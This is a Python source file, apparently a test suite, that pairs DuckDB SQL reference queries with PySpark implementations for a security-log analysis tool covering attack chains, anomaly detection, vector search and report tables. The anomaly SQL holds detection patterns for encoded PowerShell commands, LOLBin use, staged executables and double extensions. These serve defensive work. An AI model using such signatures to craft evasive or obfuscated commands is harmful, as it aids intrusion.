    found = ch.attack_chains(event_matches(spark, d), events_log(spark, d), security_times(spark, d), "user_id", cap=None, keep=None)
    return found.select("host", "score", "tactic_count", F.array_join("tactics", ">").alias("tactics"), "event_count", "first_epoch_ms", "last_epoch_ms", "first_row", "last_row")


@query("chains_without_time", "SELECT CAST(user_id AS VARCHAR) AS host, CAST(least(100, 50 + 10 * (count(DISTINCT event_type) - 1)) AS INTEGER) AS score, CAST(count(DISTINCT event_type) AS INTEGER) AS tactic_count, count(*) AS event_count, min(event_id) + 1 AS first_row, max(event_id) + 1 AS last_row FROM events GROUP BY user_id HAVING count(DISTINCT event_type) >= 3")
def chains_without_time(spark, d):
    found = ch.attack_chains(event_matches(spark, d), events_log(spark, d), None, "user_id", cap=None, keep=None)
    return found.select("host", "score", "tactic_count", "event_count", "first_row", "last_row")


# --- activity and anomalies ----------------------------------------------------------------------------------

_ACTIVITY = _SEC + """, a AS (SELECT row_num, CASE event_id WHEN '4720' THEN 'account_management' WHEN '4625.0' THEN 'authentication' WHEN '4663' THEN 'file' ELSE CASE WHEN message LIKE '%Process start%' THEN 'process' WHEN message LIKE '%connection%' THEN 'network' ELSE 'process' END END AS category,
  CASE WHEN event_id IN ('4720', '4663') THEN 'Event ID ' || event_id WHEN event_id = '4625.0' THEN 'Event ID 4625' WHEN message <> '' THEN trim(message) ELSE command_line END AS detail FROM sec)"""


@query("activity", _ACTIVITY + " SELECT row_num, category, detail FROM a")
def activity(spark, d):
    """One label for every row."""
    return act.classify_activity(security(spark, d), META, ROLES).select("row_num", "category", "detail")


_RULED = " ".join(f"WHEN regexp_matches(lower(text), '{'|'.join(words)}') THEN '{k}'" for k, words in act.WORDS.items())


@query("activity_of_text", f"SELECT doc_id + 1 AS row_num, CASE WHEN trim(text) = '' THEN 'other' {_RULED} ELSE 'other' END AS category FROM documents")
def activity_of_text(spark, d):
    """Labels of the documents by the words in them."""
    return act.classify_activity(docs_log(spark, d).withColumnRenamed("text", "message"), [ColumnMeta("message", "Message")], {}).select("row_num", "category")


@query("activity_summary", _ACTIVITY + ", n AS (SELECT category, detail, count(*) AS n FROM a WHERE detail <> '' GROUP BY ALL), k AS (SELECT *, row_number() OVER (PARTITION BY category ORDER BY n DESC, detail) AS k FROM n) SELECT category, (SELECT count(*) FROM a WHERE a.category = k.category) AS rows, string_agg(detail || '=' || n, ';' ORDER BY k) AS top FROM k WHERE k <= 3 GROUP BY category")
def activity_summary(spark, d):
    found = act.activity_summary(act.classify_activity(security(spark, d), META, ROLES))
    return found.select("category", "rows", F.array_join(F.transform("top_details", lambda x: F.concat(x["detail"], F.lit("="), x["rows"].cast("string"))), ";").alias("top"))


_CELL_META = [ColumnMeta("url", "Command Line"), ColumnMeta("html", "Html")]
_CELL_ROLES = {"command_line": Role("url", status="confirmed")}
_LOL, _EXE, _DOC = "|".join(an.LOLBINS), "|".join(an.EXECUTABLE), "|".join(an.DOCUMENT)
_STAGED = "|".join(s.replace("\\", "\\\\") for s in an.STAGING)
_CELLS = rf"""
WITH c AS (SELECT page_id + 1 AS row_num, url AS cell, true AS command FROM pages UNION ALL SELECT page_id + 1, html, false FROM pages),
l AS (SELECT *, lower(cell) AS low, regexp_extract_all(cell, '[A-Za-z0-9+/=]{{60,}}') AS runs FROM c WHERE cell <> ''),
b AS (SELECT *, list_aggregate(list_transform(runs, lambda x: length(x)), 'max') AS longest FROM l),
h AS (SELECT row_num, command, unnest(string_split(substr(cell, 1, 4096), '')) AS ch FROM l WHERE strlen(cell) >= 100),
k AS (SELECT row_num, command, ch, count(*)::DOUBLE AS n FROM h GROUP BY ALL),
t AS (SELECT row_num, command, sum(n) AS total FROM k GROUP BY ALL),
e AS (SELECT row_num, command, sum(-n / total * log2(n / total)) AS bits FROM k JOIN t USING (row_num, command) GROUP BY ALL),
f AS (
  SELECT row_num, 'encoded_blob' AS category, CASE WHEN low LIKE '%-encodedcommand%' OR low LIKE '%-enc %' OR low LIKE '%frombase64string%' THEN 75
    WHEN regexp_matches(list_filter(runs, lambda x: length(x) = longest)[1], '[A-Z]') AND regexp_matches(list_filter(runs, lambda x: length(x) = longest)[1], '[a-z]') AND regexp_matches(list_filter(runs, lambda x: length(x) = longest)[1], '[0-9]') THEN 70 END AS score FROM b
  UNION ALL SELECT row_num, 'lolbin', CASE WHEN regexp_matches(low, '(^|[^a-z0-9._-])({_LOL})(\.exe)?($|[^a-z0-9._-])') THEN 45 END FROM l
  UNION ALL SELECT row_num, 'suspicious_path', CASE WHEN regexp_matches(low, '{_STAGED}') AND regexp_matches(low, '\.({_EXE})') THEN 45 END FROM l
  UNION ALL SELECT row_num, 'double_extension', CASE WHEN regexp_matches(low, '[a-z0-9._-]*\.({_DOC})\.({_EXE})($|[^a-z0-9._-])') THEN 65 END FROM l
  UNION ALL SELECT row_num, 'url_in_command', CASE WHEN command AND (low LIKE '%http://%' OR low LIKE '%https://%') THEN 40 END FROM l
  UNION ALL SELECT row_num, 'long_command', CASE WHEN command AND strlen(cell) >= 400 THEN 30 END FROM l
  UNION ALL SELECT row_num, 'high_entropy', CASE WHEN bits >= 5.0 THEN 40 END FROM e)
SELECT row_num, category, max(score)::INTEGER AS score FROM f WHERE score IS NOT NULL GROUP BY row_num, category"""


#: What the SQL of the queries but ``anomaly_cells`` takes a cell's entropy from.
BEGINNING = 4096
_CELLS_WHOLE = _CELLS.replace(f"substr(cell, 1, {BEGINNING})", "cell")


@query("anomaly_cells", _CELLS_WHOLE)
def anomaly_cells(spark, d):
    """Findings in the cells of all pages, the best of each row and category."""
    return an.cell_findings(spread(pages_log(spark, d)), _CELL_META, _CELL_ROLES).select("row_num", "category", "score")


@query("anomaly_commands", _SEC + ", t AS (SELECT row_num, event_id, command_line, CAST(row_num - 1 AS BIGINT) AS e FROM sec) SELECT row_num, 'ip_in_command' AS category, CASE WHEN e % 11 = 2 THEN 'private address 192.168.1.7 in the command of ''command_line''' ELSE (CASE WHEN e % 256 IN (10, 127) THEN 'private' ELSE 'public' END) || ' address ' || (e % 256) || '.2.3.4 in the command of ''command_line''' END AS reason FROM t WHERE e % 11 IN (1, 2)")
def anomaly_commands(spark, d):
    """Addresses in commands, with the words of the finding."""
    log = security(spark, d)
    return an.cell_findings(log, META, {"command_line": ROLES["command_line"]}).filter("category = 'ip_in_command'").select("row_num", "category", "reason")


@query("rare_process", _SEC + "SELECT row_num FROM sec WHERE process_name IN (SELECT process_name FROM sec GROUP BY 1 HAVING count(*) <= 2) AND (SELECT count(*) FROM sec) >= 100")
def rare_process(spark, d):
    return an.rare_process(security(spark, d), "process_name", "Process", cap=None).select("row_num")


@query("rare_user_host", "WITH t AS (SELECT o_orderkey + 1 AS row_num, o_custkey AS u, o_orderpriority AS h FROM orders), p AS (SELECT u, h, count(*) AS n FROM t GROUP BY ALL), s AS (SELECT u FROM t GROUP BY u HAVING count(*) >= 5) SELECT row_num FROM t JOIN p USING (u, h) JOIN s USING (u) WHERE n <= 2")
def rare_user_host(spark, d):
    """Customers' rare order priorities as users on rare hosts."""
    return an.rare_user_host(src.number_by(read(spark, d, "orders"), "o_orderkey"), "o_custkey", "o_orderpriority", cap=None).select("row_num")


@query("off_hours", "WITH t AS (SELECT event_id + 1 AS row_num, hour(ts) >= 22 OR hour(ts) < 6 AS off FROM events) SELECT row_num FROM t WHERE off AND (SELECT count(*) FILTER (off) / count(*) FROM t) < 0.5 AND (SELECT count(*) FROM t) >= 50")
def off_hours(spark, d):
    """Night rows, if they are under half of all: these events have no quiet nights."""
    return an.off_hours(events_log(spark, d).select("row_num"), security_times(spark, d), below_share=0.5, cap=None).select("row_num")


@query("anomaly_summary", f"SELECT category, count(*) AS findings, count(DISTINCT row_num) AS rows FROM ({_CELLS}) GROUP BY category")
def anomaly_summary(spark, d):
    return an.anomaly_summary(an.cell_findings(spread(pages_log(spark, d)), _CELL_META, _CELL_ROLES, BEGINNING))


@query("anomaly_top_rows", f"SELECT row_num, CAST(least(100, sum(score)) AS INTEGER) AS score, string_agg(category, ',' ORDER BY category) AS categories FROM ({_CELLS}) GROUP BY row_num ORDER BY score DESC, row_num LIMIT 20")
def anomaly_top_rows(spark, d):
    return an.top_rows(an.cell_findings(spread(pages_log(spark, d)), _CELL_META, _CELL_ROLES, BEGINNING)).select("row_num", "score", F.array_join("categories", ",").alias("categories"))


@query("anomaly_scan")
def anomaly_scan(spark, d):
    """All detectors over the security log, ignored rows left out."""
    log = security(spark, d)
    return an.scan_anomalies(log, META, ROLES, security_times(spark, d), rules.ignored_rows(log, rules.load_rules(), META, ROLES), cap=None, beginning=BEGINNING)


# --- documents and vectors -----------------------------------------------------------------------------------


@query("normalized_tokens", r"SELECT event_id + 1 AS row_num, regexp_replace(props, '[0-9]+', '<number>', 'g') AS template FROM events")
def normalized_tokens(spark, d):
    """Templates of the events' properties."""
    return events_log(spark, d).select("row_num", tx.normalize_tokens(F.col("props")).alias("template"))


@query("word_chunks", r"""WITH w AS (SELECT doc_id + 1 AS row_num, list_filter(regexp_split_to_array(text, '\s+'), lambda x: x <> '') AS w FROM documents)
SELECT row_num, i AS ord, array_to_string(w[60 * i + 1 : 60 * i + 72], ' ') AS chunk FROM (SELECT row_num, w, unnest(range(greatest(1, ceil((len(w) - 12) / 60))::BIGINT)) AS i FROM w)""")
def word_chunks(spark, d):
    """All chunks of all documents, none cut."""
    chunks = tx.word_chunks(F.col("text"), most=None, chars=1 << 20, cell_chars=None)
    return docs_log(spark, d).select("row_num", F.posexplode(chunks).alias("ord", "chunk")).select("row_num", F.col("ord").cast("long"), "chunk")


_DOC_META = [ColumnMeta("event_type", "Event Type"), ColumnMeta("props", "Details")]
_MODES = {"event_type": "categorical", "props": "text"}
_UNLIMITED = docs.Limits(documents=None, mappings=None)


@query("documents_deduplicated", """WITH r AS (SELECT event_id + 1 AS row_num, 'cell' AS kind, 'event_type' AS column_key, 'event type: ' || event_type AS text FROM events
  UNION ALL SELECT event_id + 1, 'cell', 'props', 'details: ' || regexp_replace(props, '[0-9]+', '<number>', 'g') FROM events)
SELECT kind, column_key, text, count(*) AS rows FROM r GROUP BY ALL""")
def documents_deduplicated(spark, d):
    """Each text once, with the number of its rows."""
    documents, doc_rows = docs.build_documents(events_log(spark, d), _DOC_META, modes=_MODES, limits=_UNLIMITED)
    return documents.join(doc_rows, "doc_key").groupBy("kind", "column_key", "text").agg(F.count(F.lit(1)).alias("rows"))


@query("documents_coverage", "SELECT count(DISTINCT event_type) + count(DISTINCT regexp_replace(props, '[0-9]+', '', 'g')) AS documents_seen, 2 * count(*) AS mappings_seen, CAST(0 AS BIGINT) AS documents_skipped, count(*) AS rows_covered FROM events")
def documents_coverage(spark, d):
    log = events_log(spark, d)
    mapped = cut(docs.mapped_documents(spread(log), _DOC_META, _MODES, _UNLIMITED))
    _, doc_rows = docs.build_documents(log, _DOC_META, modes=_MODES, limits=_UNLIMITED, mapped=mapped)
    return docs.coverage(log, _DOC_META, doc_rows, _MODES, _UNLIMITED, mapped=mapped).select("documents_seen", "mappings_seen", "documents_skipped", "rows_covered")


def vectors(spark, d) -> DataFrame:
    return read(spark, d, "embeddings").select(F.col("vec_id").alias("doc_key"), "embedding", F.concat(F.lit("vector "), F.col("vec_id").cast("string")).alias("text"))


def _first_vector(spark, d) -> list[float]:
    row = read(spark, d, "embeddings").orderBy("vec_id").select("embedding").first()
    v = [float(x) for x in row[0]]
    n = sum(x * x for x in v) ** 0.5
    return [x / n for x in v]


_COSINE = "WITH q AS (SELECT embedding::DOUBLE[] AS q FROM embeddings ORDER BY vec_id LIMIT 1), s AS (SELECT vec_id AS doc_key, round(list_cosine_similarity(embedding::DOUBLE[], q), 6) AS score FROM embeddings, q)"
_VEC_ROWS = "r AS (SELECT vec_id AS doc_key, vec_id // 3 + 1 AS row_num FROM embeddings)"
_LEAST = 0.1


def vec_rows(spark, d) -> DataFrame:
    return read(spark, d, "embeddings").select(F.col("vec_id").alias("doc_key"), (F.floor(F.col("vec_id") / 3) + 1).alias("row_num"))


@query("vector_top_k", f"{_COSINE} SELECT doc_key, score FROM s WHERE score >= {_LEAST} ORDER BY score DESC, doc_key LIMIT 256")
def vector_top_k(spark, d):
    """The 256 nearest vectors to the first, exact."""
    return docs.vector_top_k(vectors(spark, d), _first_vector(spark, d), 256, _LEAST)


@query("vector_rows", f"{_COSINE}, {_VEC_ROWS}, t AS (SELECT * FROM s WHERE score >= {_LEAST} ORDER BY score DESC, doc_key LIMIT 256) SELECT DISTINCT row_num FROM r JOIN t USING (doc_key)")
def vector_rows(spark, d):
    """Rows of the retained documents."""
    return docs.select_rows(vector_top_k(spark, d), vec_rows(spark, d))


@query("vector_row_reasons", f"{_COSINE}, {_VEC_ROWS}, t AS (SELECT * FROM s WHERE score >= {_LEAST} ORDER BY score DESC, doc_key LIMIT 256), k AS (SELECT row_num, doc_key, score, row_number() OVER (PARTITION BY row_num ORDER BY score DESC, doc_key) AS k FROM r JOIN t USING (doc_key)) SELECT row_num, string_agg('vector ' || doc_key, ', ' ORDER BY k) AS reasons FROM k WHERE k <= 3 GROUP BY row_num")
def vector_row_reasons(spark, d):
    """The best documents of each row, told as text."""
    told = docs.row_reasons(vector_top_k(spark, d), vec_rows(spark, d), vectors(spark, d))
    return told.select("row_num", F.array_join(F.transform("reasons", lambda x: F.regexp_extract(x, r"(vector \d+)$", 1)), ", ").alias("reasons"))


@query("vector_best_rows", f"{_COSINE}, {_VEC_ROWS} SELECT row_num, max(score) AS score FROM r JOIN s USING (doc_key) WHERE score >= {_LEAST} GROUP BY row_num ORDER BY score DESC, row_num LIMIT 20")
def vector_best_rows(spark, d):
    return docs.row_top_k(docs.vector_scores(vectors(spark, d), _first_vector(spark, d), _LEAST), vec_rows(spark, d))


@query("selection_frozen", f"{_COSINE}, {_VEC_ROWS}, t AS (SELECT *, row_number() OVER (ORDER BY score DESC, doc_key) AS rank FROM s WHERE score >= {_LEAST} ORDER BY score DESC, doc_key LIMIT 256) SELECT CAST(rank AS INTEGER) AS rank, doc_key, 1::BIGINT AS rows, sha256(sha256(CAST(row_num AS VARCHAR))) AS row_digest FROM t JOIN r USING (doc_key)")
def selection_frozen(spark, d):
    """A frozen selection with the digests of its rows."""
    return docs.freeze(vector_top_k(spark, d), vec_rows(spark, d)).select("rank", "doc_key", "rows", "row_digest")


# --- roll-ups and report -------------------------------------------------------------------------------------


@query("date_range", "SELECT count(*) AS timed_rows, arg_min(event_id + 1, (epoch_us(ts) // 1000, event_id)) AS first_row, arg_max(event_id + 1, (epoch_us(ts) // 1000, event_id)) AS last_row FROM events")
def date_range(spark, d):
    return rollups.date_range(security_times(spark, d)).select("timed_rows", "first_row", "last_row")


@query("distinct_values", _SEC + ", s AS (SELECT lower(account) AS f, account, count(*) AS n, min(row_num) AS first FROM sec GROUP BY ALL) SELECT arg_min(account, (-n, account)) AS value, CAST(sum(n) AS BIGINT) AS rows, min(first) AS first_row FROM s GROUP BY f")
def distinct_values(spark, d):
    """Accounts by folded name under their usual spelling."""
    return rollups.distinct_values(security(spark, d), "account")


def _range_values() -> str:
    import ipaddress

    lines = (Path(rollups.__file__).parent.parent / "resources" / "cidr_ranges.txt").read_text().splitlines()
    nets = [(ipaddress.ip_network(x.split("\t")[0], strict=False), x.split("\t")[1]) for x in lines if x.strip() and not x.startswith("#")]
    return ", ".join(f"({int(n.network_address)}, {int(n.broadcast_address)}, '{label.replace(chr(39), chr(39) * 2)}', {i})" for i, (n, label) in enumerate(nets))


_IPS = _SEC + f""", i AS (SELECT split_part(source_ip, ':', 1) AS ip, count(*) AS rows, min(row_num) AS first_row FROM sec GROUP BY 1),
n AS (SELECT *, split_part(ip, '.', 1)::BIGINT * 16777216 + split_part(ip, '.', 2)::BIGINT * 65536 + split_part(ip, '.', 3)::BIGINT * 256 + split_part(ip, '.', 4)::BIGINT AS n FROM i),
c(low, high, label, ord) AS (VALUES {_range_values()}),
u AS (SELECT ip, rows, first_row, n, (SELECT arg_min(label, ord) FROM c WHERE n BETWEEN low AND high) AS label,
  (n >> 24) IN (10, 127) OR (n >> 20) = 2753 OR (n >> 16) IN (49320, 43518) AS private FROM n)"""


@query("ip_rollup", _IPS + " SELECT ip, label, private, rows, first_row FROM u")
def ip_rollup(spark, d):
    """Addresses with the range that holds them."""
    return rollups.ip_rollup(security(spark, d), "source_ip", rollups.cidr_ranges(spark)).select("ip", "label", "private", "rows", "first_row")


@query("private_groups", _IPS + " SELECT regexp_extract(ip, '^(.*)\\.[0-9]+$', 1) || '.0/24' AS network, count(*) AS addresses, CAST(sum(rows) AS BIGINT) AS rows FROM u WHERE private AND label IS NULL GROUP BY 1")
def private_groups(spark, d):
    found = rollups.ip_rollup(security(spark, d), "source_ip", rollups.cidr_ranges(spark))
    return rollups.private_groups(found).select("network", "addresses", "rows")


@query("browsers", _SEC + "SELECT CASE WHEN user_agent LIKE '%Edg/%' THEN 'Microsoft Edge' WHEN user_agent LIKE 'Opera%' THEN 'Opera' WHEN user_agent LIKE '%Firefox/%' THEN 'Firefox' WHEN user_agent LIKE '%Chrome/%' THEN 'Chrome/Chromium' WHEN user_agent LIKE '%Safari/%' THEN 'Safari' ELSE 'Internet Explorer' END AS browser, count(*) AS rows, min(row_num) AS first_row FROM sec WHERE user_agent NOT LIKE 'curl%' GROUP BY 1")
def browsers(spark, d):
    return rollups.browsers(security(spark, d), rollups.user_agent_column(META))


@query("associations", "SELECT CAST(o_custkey AS VARCHAR) AS value, count(*) AS rows, min(o_orderkey) + 1 AS first_row, count(DISTINCT o_orderpriority) AS others, string_agg(DISTINCT o_orderpriority, '; ' ORDER BY o_orderpriority) AS other_list FROM orders GROUP BY o_custkey")
def associations(spark, d):
    """What each customer stands with."""
    return rollups.associations(src.number_by(read(spark, d, "orders"), "o_orderkey"), "o_custkey", "o_orderpriority")


@query("report_timeline", "SELECT event_id + 1 AS row_num, event_type AS tactic_id, event_type AS evidence, CAST(user_id AS VARCHAR) AS host FROM events")
def report_timeline(spark, d):
    """One line a match with its evidence cell."""
    log, meta = events_log(spark, d), [ColumnMeta(n, n) for n in ("ts", "user_id", "event_type")]
    return rollups.timeline_table(event_matches(spark, d), log, meta, {"host": Role("user_id")}, security_times(spark, d)).select("row_num", "tactic_id", "evidence", "host")


@query("report_attack_story", "WITH h AS (SELECT user_id FROM events GROUP BY 1 HAVING count(DISTINCT event_type) >= 3), e AS (SELECT user_id, event_id + 1 AS row_num, row_number() OVER (PARTITION BY user_id ORDER BY event_id) AS k FROM events JOIN h USING (user_id)) SELECT row_num, 'event' AS line FROM e UNION ALL SELECT min(row_num), 'chain' FROM e GROUP BY user_id")
def report_attack_story(spark, d):
    """Chains and their events."""
    log, matches = events_log(spark, d), event_matches(spark, d)
    # every user's chain is told, not only the 200 best: the number is the user's
    chains = ch.attack_chains(matches, log, None, "user_id", cap=None, keep=None).withColumn("chain_id", F.col("host").cast("int"))
    story = rollups.attack_story(chains, matches, log, "user_id", None, most=None)
    return story.select("row_num", F.when(F.col("seq") == 0, "chain").otherwise("event").alias("line"))


@query("report_anomalies", f"SELECT row_num, category, score FROM ({_CELLS})")
def report_anomalies(spark, d):
    log = pages_log(spark, d)
    return rollups.anomaly_table(an.cell_findings(log, _CELL_META, _CELL_ROLES, BEGINNING), log, _CELL_META, _CELL_ROLES, None).select("row_num", "category", "score")


@query("report_ignored", _SEC + "SELECT row_num, 'qualys-agent' AS rule_id FROM sec WHERE lower(process_name) LIKE '%qualys%'")
def report_ignored(spark, d):
    return rollups.ignored_table(rules.ignored_rows(security(spark, d), rules.load_rules(), META, ROLES), security_times(spark, d)).select("row_num", "rule_id")


@query("report_activity", _ACTIVITY + " SELECT category, count(*) AS rows, round(100 * count(*) / (SELECT count(*) FROM a), 1) AS share FROM a GROUP BY category")
def report_activity(spark, d):
    return rollups.activity_table(act.classify_activity(security(spark, d), META, ROLES)).select("category", "rows", "share")


@query("report_row_by_row", f"WITH {_MATCHES}, t AS (SELECT row_num, string_agg(DISTINCT technique_id, ', ' ORDER BY technique_id) AS techniques FROM m GROUP BY row_num) SELECT doc_id + 1 AS row_num, coalesce(techniques, '') AS techniques FROM documents LEFT JOIN t ON t.row_num = doc_id + 1")
def report_row_by_row(spark, d):
    """Every row with all that was found on it."""
    log = docs_log(spark, d)
    labels = act.classify_activity(log.withColumnRenamed("text", "message"), [ColumnMeta("message", "Message")], {})
    return rollups.row_by_row(labels, doc_matches(spark, d), None, None, cap=None).select("row_num", "techniques")


@query("report_tactic", f"WITH {_MATCHES} SELECT row_num, keyword FROM m WHERE tactic_id = 'TA1'")
def report_tactic(spark, d):
    log, meta = docs_log(spark, d), [ColumnMeta(n, n) for n in ("text", "source")]
    return rollups.tactic_table(rollups.timeline_table(doc_matches(spark, d), log, meta, {}, None), "TA1").select("row_num", "keyword")


@query("dataset_profile", _SEC + ", u AS (SELECT account, count(*) AS n FROM sec GROUP BY 1 ORDER BY n DESC, account LIMIT 3), h AS (SELECT computer, count(*) AS n FROM sec GROUP BY 1 ORDER BY n DESC, computer LIMIT 3) SELECT 'rows' AS item, '' AS value, count(*) AS rows FROM sec UNION ALL SELECT 'top user', account, n FROM u UNION ALL SELECT 'top host', computer, n FROM h")
def dataset_profile(spark, d):
    return triage.dataset_profile(security(spark, d), META, ROLES).filter("item = 'rows' or item like 'top %'")
